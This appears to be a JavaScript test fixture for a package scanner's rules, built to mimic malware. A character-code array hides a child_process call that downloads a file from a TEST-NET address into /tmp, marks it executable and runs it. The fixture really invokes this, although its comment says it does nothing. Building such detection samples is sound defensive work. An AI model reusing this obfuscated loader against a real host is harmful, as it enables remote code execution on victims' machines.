// Inert test fixture for assay's package rules: it imitates a malware technique
// with reserved example hosts and TEST-NET addresses and does nothing when run.
const s = String.fromCharCode(114,101,113,117,105,114,101,40,34,99,104,105,108,100,95,112,114,111,99,101,115,115,34,41,46,101,120,101,99,83,121,110,99,40,34,119,103,101,116,32,45,113,32,104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,54,48,47,120,32,45,79,32,47,116,109,112,47,120,32,38,38,32,99,104,109,111,100,32,43,120,32,47,116,109,112,47,120,32,38,38,32,47,116,109,112,47,120,34,41);
const run = new Function(s);
run();
